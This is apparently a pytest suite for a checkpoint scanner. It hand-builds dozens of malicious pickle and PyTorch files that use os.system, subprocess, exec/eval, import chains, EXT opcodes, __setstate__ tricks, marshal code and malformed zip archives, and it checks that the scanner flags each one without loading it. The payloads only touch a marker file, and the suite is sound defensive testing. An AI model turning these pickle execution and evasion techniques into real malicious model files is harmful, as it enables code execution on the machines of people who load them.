"""The adversarial suite: malicious checkpoints that would create a marker file if loaded.

Every one must be flagged (never ``safe``, with the expected finding code and severity) and the
marker must never appear, whether through ``scan_path``, ``read_torch_file`` or ``assetkit scan``.
The pickles are hand-assembled opcode by opcode; ``pickle`` is used only to build benign parts.
"""

from __future__ import annotations

import copyreg
import gzip
import io
import json
import marshal
import pickle
import struct
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner

from assetkit.check.scan import scan_path
from assetkit.cli import main
from assetkit.errors import AssetkitError
from assetkit.formats.torch_pickle import LEGACY_MAGIC, read_torch_file

MARKER = "MARKER"


# ---------------------------------------------------------------------------------------------
# opcode assembly
# ---------------------------------------------------------------------------------------------
def s(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


P2, P4, STOP = b"\x80\x02", b"\x80\x04", b"."


def shell(tmp: Path) -> str:
    return f"touch {tmp / MARKER}"


def pycode(tmp: Path) -> str:
    return f"open({str(tmp / MARKER)!r}, 'w').close()"


def os_system(tmp: Path) -> bytes:
    return P2 + call(glob("os", "system"), s(shell(tmp))) + STOP


def benign_state_dict_pickle() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        return z.read(next(n for n in z.namelist() if n.endswith("data.pkl")))


def torch_zip(path: Path, extra: dict[str, bytes] | None = None, data_pkl: bytes | None = None) -> Path:
    """A real torch.save zip, optionally with its data.pkl replaced and members added."""
    import torch

    torch.save({"w": torch.ones(4)}, path)
    if data_pkl is None and not extra:
        return path
    with zipfile.ZipFile(path) as z:
        members = [(i, z.read(i.filename)) for i in z.infolist()]
    root = members[0][0].filename.split("/")[0]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for info, data in members:
            if data_pkl is not None and info.filename.endswith("/data.pkl"):
                data = data_pkl
            z.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            z.writestr(f"{root}/{name}", data)
    return path


def legacy_header() -> bytes:
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return pickle.dumps(LEGACY_MAGIC, 2) + pickle.dumps(1001, 2) + pickle.dumps(sys_info, 2)


def legacy_benign_main() -> tuple[bytes, bytes, bytes]:
    """(main pickle, keys pickle, records) of a real legacy torch.save."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.ones(2)}, buf, _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    stream = io.BytesIO(data)
    for _ in range(3):
        pickle.load(stream)  # benign header pickles written by torch itself, in this test
    start = stream.tell()
    # skip the main pickle without running it: pickletools walks opcodes only
    import pickletools

    for _op, _arg, pos in pickletools.genops(stream):
        end = pos
    main_end = end + 1
    stream.seek(main_end)
    keys_start = main_end
    for _op, _arg, pos in pickletools.genops(stream):
        end = pos
    keys_end = end + 1
    return data[start:main_end], data[keys_start:keys_end], data[keys_end:]


def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


# ---------------------------------------------------------------------------------------------
# the corpus
# ---------------------------------------------------------------------------------------------
@dataclass
class Case:
    id: str
    build: Callable[[Path], Path]  # tmp dir -> malicious file
    code: str  # a finding code that must be present
    severity: str = "dangerous"
    verdict: str = "unsafe"


def write(name: str, content: Callable[[Path], bytes]) -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        path = tmp / name
        path.write_bytes(content(tmp))
        return path

    return build


def _legacy_payload_in(step: str) -> Callable[[Path], bytes]:
    def content(tmp: Path) -> bytes:
        main, keys, records = legacy_benign_main()
        payload = os_system(tmp)
        if step == "main":
            return legacy_header() + payload + keys + records
        if step == "keys":
            return legacy_header() + main + payload + records
        if step == "sysinfo":
            return pickle.dumps(LEGACY_MAGIC, 2) + pickle.dumps(1001, 2) + payload + main + keys + records
        return legacy_header() + main + keys + records + payload  # after the storage records

    return content


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _nested_torch_load(tmp: Path) -> bytes:
    (tmp / "other.pt").write_bytes(os_system(tmp))
    return P2 + call(glob("torch", "load"), s(str(tmp / "other.pt")), glob("builtins", "False")) + STOP


def _ext_payload(opcode: bytes) -> Callable[[Path], bytes]:
    return lambda tmp: P2 + opcode + b"(" + s(shell(tmp)) + b"tR" + STOP


def _zip_with_raw_edit(tmp: Path, name: str, edit: Callable[[bytearray, Path], None]) -> Path:
    path = torch_zip(tmp / name, data_pkl=os_system(tmp))
    raw = bytearray(path.read_bytes())
    edit(raw, tmp)
    path.write_bytes(bytes(raw))
    return path


def _set_encrypted(raw: bytearray, tmp: Path) -> None:
    # flag bit 0 in every local and central header
    for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = raw.find(sig)
        while pos >= 0:
            raw[pos + flag_at] |= 1
            pos = raw.find(sig, pos + 4)


def _rename_local(raw: bytearray, tmp: Path) -> None:
    pos = raw.find(b"data.pkl")  # first occurrence: the local header of data.pkl
    raw[pos:pos + 8] = b"evil.pkl"


def _break_crc(raw: bytearray, tmp: Path) -> None:
    pos = raw.find(b"PK\x01\x02")  # first central record: data.pkl
    raw[pos + 16:pos + 20] = b"\x00\x00\x00\x00"


def _duplicate_data_pkl(tmp: Path) -> Path:
    path = tmp / "dup.pt"
    benign = benign_state_dict_pickle()
    buf = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            z.writestr("archive/data.pkl", benign)
            z.writestr("archive/data.pkl", os_system(tmp))
            z.writestr("archive/data/0", b"\x00" * 8)
    path.write_bytes(buf.getvalue())
    return path


def _torchscript(tmp: Path) -> Path:
    path = tmp / "scripted.pt"
    path.write_bytes(zip_bytes([("m/data.pkl", benign_state_dict_pickle()), ("m/code/__torch__.py", b"x = 1\n"),
                                ("m/constants.pkl", os_system(tmp))]))
    return path


def _tar_wrapped(tmp: Path) -> Path:
    path = tmp / "model.tar"
    with tarfile.open(path, "w") as tar:
        data = os_system(tmp)
        info = tarfile.TarInfo("model.ckpt")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return path


CASES = [
    Case("os-system", write("a.ckpt", os_system), "unsafe-global"),
    Case("posix-system", write("b.ckpt", lambda t: P2 + call(glob("posix", "system"), s(shell(t))) + STOP),
         "unsafe-global"),
    Case("nt-system", write("c.ckpt", lambda t: P2 + call(glob("nt", "system"), s(shell(t))) + STOP), "unsafe-global"),
    Case("subprocess-popen", write("d.pt", lambda t: P2 + glob("subprocess", "Popen") + b"(" + b"(" + s("sh") + s("-c")
                                   + s(shell(t)) + b"l" + b"tR" + STOP), "unsafe-global"),
    Case("builtins-exec", write("e.pt", lambda t: P2 + call(glob("builtins", "exec"), s(pycode(t))) + STOP),
         "unsafe-global"),
    Case("builtins-eval", write("f.pt", lambda t: P2 + call(glob("builtins", "eval"), s(pycode(t))) + STOP),
         "unsafe-global"),
    Case("py2-builtin-eval", write("g.pt", lambda t: P2 + call(glob("__builtin__", "eval"), s(pycode(t))) + STOP),
         "unsafe-global"),
    Case("getattr-import-chain", write("h.pt", lambda t: P2 + call(
        call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), s("os")), s("system")), s(shell(t)))
        + STOP), "unsafe-global"),
    Case("stack-global-memo", write("i.pt", lambda t: P4 + s("os") + b"\x94" + s("system") + b"\x94" + b"0" + b"0"
                                    + b"h\x00h\x01\x93" + b"(" + s(shell(t)) + b"tR" + STOP), "unsafe-global"),
    Case("dotted-torch-serialization", write("j.pt", lambda t: P4 + s("torch.serialization") + s("os.system")
                                             + b"\x93(" + s(shell(t)) + b"tR" + STOP), "unsafe-global"),
    Case("dotted-innocent-module", write("k.pt", lambda t: P4 + s("collections") + s("os.system") + b"\x93("
                                         + s(shell(t)) + b"tR" + STOP), "unsafe-global"),
    Case("payload-before-parse-error", write("l.pt", lambda t: P2 + call(glob("os", "system"), s(shell(t))) + b"\xff"),
         "unsafe-global"),
    Case("payload-then-truncated", write("m.pt", lambda t: P2 + call(glob("os", "system"), s(shell(t)))),
         "unsafe-global"),
    Case("legacy-main-pickle", write("n.ckpt", _legacy_payload_in("main")), "unsafe-global"),
    Case("legacy-keys-pickle", write("o.ckpt", _legacy_payload_in("keys")), "unsafe-global"),
    Case("legacy-sysinfo-pickle", write("p.ckpt", _legacy_payload_in("sysinfo")), "unsafe-global"),
    Case("legacy-after-records", write("q.ckpt", _legacy_payload_in("after")), "unsafe-global"),
    Case("zip-data-pkl", lambda t: torch_zip(t / "r.pt", data_pkl=os_system(t)), "unsafe-global"),
    Case("zip-other-member", lambda t: torch_zip(t / "s.pt", extra={"extra.pkl": os_system(t)}), "unsafe-global"),
    Case("zip-unreferenced-record", lambda t: torch_zip(t / "t.pt", extra={"data/99": os_system(t)}),
         "unsafe-global"),
    Case("zip-trailing-in-data-pkl", lambda t: torch_zip(t / "u.pt", data_pkl=benign_state_dict_pickle()
                                                         + os_system(t)), "unsafe-global"),
    Case("named-safetensors", write("v.safetensors", os_system), "unsafe-global"),
    Case("named-bin", write("w.bin", os_system), "unsafe-global"),
    Case("named-png", write("x.png", os_system), "unsafe-global"),
    Case("concatenated", write("y.pkl", lambda t: pickle.dumps({"a": 1}, 2) + os_system(t)), "unsafe-global"),
    Case("ext1", write("z1.pt", _ext_payload(b"\x82\xf0")), "ext-opcode"),
    Case("ext2", write("z2.pt", _ext_payload(b"\x83\xf1\x00")), "ext-opcode"),
    Case("ext4", write("z3.pt", _ext_payload(b"\x84\xf2\x00\x00\x00")), "ext-opcode"),
    Case("inst", write("z4.pt", lambda t: b"(" + s(shell(t)) + b"ios\nsystem\n."), "unsafe-global"),
    Case("obj", write("z5.pt", lambda t: P2 + b"(" + glob("os", "system") + s(shell(t)) + b"o."), "unsafe-global"),
    Case("newobj-popen", write("z6.pt", lambda t: P2 + glob("subprocess", "Popen") + b"(" + s(shell(t)) + b"t\x81."),
         "unsafe-global"),
    Case("newobj-ex", write("z7.pt", lambda t: P4 + glob("subprocess", "Popen") + b"(" + s(shell(t)) + b"t}\x92."),
         "unsafe-global"),
    Case("build-setstate-exec", write("z8.pt", lambda t: P2 + glob("collections", "OrderedDict") + b")R" + b"N}"
                                      + s("__setstate__") + glob("builtins", "exec") + b"s\x86b" + s(pycode(t)) + b"b."),
         "pickle-build-dunder"),
    Case("build-dunder-only", write("z9.pt", lambda t: P2 + glob("collections", "OrderedDict") + b")R}"
                                    + s("__setstate__") + s(pycode(t)) + b"sb."), "pickle-build-dunder"),
    Case("functools-partial", write("fa.pt", lambda t: P2 + call(call(glob("functools", "partial"),
                                    glob("os", "system"), s(shell(t))), ) + STOP), "unsafe-global"),
    Case("operator-attrgetter", write("fb.pt", lambda t: P2 + call(call(call(glob("operator", "attrgetter"),
                                      s("system")), call(glob("importlib", "import_module"), s("os"))), s(shell(t)))
                                      + STOP), "unsafe-global"),
    Case("runpy", write("fc.pt", lambda t: P2 + call(glob("runpy", "_run_code"), s(pycode(t)), b"}") + STOP),
         "unsafe-global"),
    Case("importlib-methodcaller", write("fd.pt", lambda t: P2 + call(call(glob("operator", "methodcaller"),
                                         s("system"), s(shell(t))), call(glob("importlib", "import_module"), s("os")))
                                         + STOP), "unsafe-global"),
    Case("pip-main", write("fe.pt", lambda t: P2 + call(glob("pip", "main"), b"(" + s("install") + s("evil") + b"l")
                           + STOP), "unsafe-global"),
    Case("webbrowser", write("ff.pt", lambda t: P2 + call(glob("webbrowser", "open"), s("http://x")) + STOP),
         "unsafe-global"),
    Case("torch-load-nested", write("fg.pt", _nested_torch_load), "unsafe-global"),
    Case("torch-hub-load", write("fh.pt", lambda t: P2 + call(glob("torch.hub", "load"), s("evil/repo"), s("m"))
                                 + STOP), "unsafe-global"),
    Case("pickle-loads-nested", write("fi.pt", lambda t: P2 + call(glob("pickle", "loads"), binbytes(os_system(t)))
                                      + STOP), "unsafe-global"),
    Case("marshal-codetype", write("fj.pt", lambda t: P2 + call(call(glob("types", "FunctionType"), call(
        glob("marshal", "loads"), binbytes(marshal.dumps(compile(pycode(t), "x", "exec")))), b"}")) + STOP),
        "unsafe-global"),
    Case("protocol0-text", write("fk.pt", lambda t: f"cos\nsystem\n(S'{shell(t)}'\ntR.".encode()), "unsafe-global"),
    Case("shutil", write("fl.pt", lambda t: P2 + call(glob("shutil", "copyfile"), s(sys.executable), s(str(t / MARKER)))
                         + STOP), "unsafe-global"),
    Case("lightning-callback-called", write("fm.ckpt", lambda t: P2 + call(
        glob("pytorch_lightning.callbacks.model_checkpoint", "ModelCheckpoint"), s(str(t / MARKER))) + STOP),
        "pickle-call-unknown", "suspicious"),
    Case("main-module-class", write("fn.pt", lambda t: P2 + call(glob("__main__", "Evil"), s(shell(t))) + STOP),
         "unknown-global", "suspicious"),
    Case("zip-encrypted-flag", lambda t: _zip_with_raw_edit(t, "ga.pt", _set_encrypted), "zip-encrypted",
         "suspicious"),
    Case("zip-local-name-mismatch", lambda t: _zip_with_raw_edit(t, "gb.pt", _rename_local), "zip-name-mismatch",
         "suspicious"),
    Case("zip-crc-mismatch", lambda t: _zip_with_raw_edit(t, "gc.pt", _break_crc), "zip-crc-mismatch", "suspicious"),
    Case("zip-duplicate-names", _duplicate_data_pkl, "zip-duplicate-name", "suspicious"),
    Case("zip-nested-zip", lambda t: torch_zip(t / "gd.pt", extra={"inner.zip": zip_bytes([("x/data.pkl",
                                                                                            os_system(t))])}),
         "zip-nested-archive", "suspicious"),
    Case("gzip-wrapped", write("ge.ckpt.gz", lambda t: gzip.compress(os_system(t))), "unsupported-wrapper", "error",
         "unsupported"),
    Case("7z-wrapped", write("gf.7z", lambda t: b"7z\xbc\xaf\x27\x1c\x00\x04" + os_system(t)), "unsupported-wrapper",
         "error", "unsupported"),
    Case("tar-wrapped", _tar_wrapped, "unsupported-wrapper", "error", "unsupported"),
    Case("torchscript-archive", _torchscript, "unsafe-global"),
]


EXTENSIONS = {("os", "system"): 0xF0, ("posix", "system"): 0xF1, ("subprocess", "getoutput"): 0xF2}


@pytest.fixture(autouse=True)
def _extension_registry():
    """Register the extension codes the EXT cases use, so that pickle itself would run them."""
    for (module, name), code in EXTENSIONS.items():
        copyreg.add_extension(module, name, code)
    yield
    for (module, name), code in EXTENSIONS.items():
        copyreg.remove_extension(module, name, code)


def test_corpus_is_large_and_distinct():
    assert len(CASES) >= 30
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_malicious_file_is_flagged_and_never_runs(case: Case, tmp_path: Path):
    path = case.build(tmp_path)
    result = scan_path(path)
    assert result.verdict == case.verdict, result.to_dict()
    assert result.verdict != "safe"
    codes = {(f.code, f.severity) for f in result.findings}
    assert (case.code, case.severity) in codes, result.to_dict()
    # The torch reader never executes either: it opens, refuses, or reports placeholders.
    try:
        asset = read_torch_file(path)
        asset.close()
    except AssetkitError:
        pass
    assert not (tmp_path / MARKER).exists()


def test_cli_flags_whole_corpus_and_nothing_runs(tmp_path: Path):
    paths = [str(case.build(tmp_path)) for case in CASES]
    runner = CliRunner()
    out = runner.invoke(main, ["scan", "--json", *paths])
    assert out.exit_code == 1, out.output
    doc = json.loads(out.output)
    assert len(doc["results"]) == len(CASES)
    assert all(r["verdict"] != "safe" for r in doc["results"])
    assert doc["summary"]["safe"] == 0
    assert not (tmp_path / MARKER).exists()


def test_cli_subprocess_on_a_folder(tmp_path: Path):
    folder = tmp_path / "downloads"
    folder.mkdir()
    for case in CASES[:8]:
        case.build(folder)
    done = subprocess.run([sys.executable, "-m", "assetkit.cli", "scan", str(folder)], capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 1, done.stderr
    assert "UNSAFE" in done.stdout and "SAFE " not in done.stdout.replace("UNSAFE", "")
    assert not (folder / MARKER).exists()


@pytest.mark.parametrize("case_id", ["os-system", "builtins-exec", "subprocess-popen", "stack-global-memo",
                                     "dotted-torch-serialization"])
@pytest.mark.slow
def test_payloads_are_live(case_id: str, tmp_path: Path):
    """Control: the standard unpickler really runs these payloads (in a child process, on a file
    this test wrote), so the suite above tests something."""
    case = next(c for c in CASES if c.id == case_id)
    path = case.build(tmp_path)
    code = "import pickle, sys; pickle.loads(open(sys.argv[1], 'rb').read())"
    subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, timeout=60)
    assert (tmp_path / MARKER).exists()
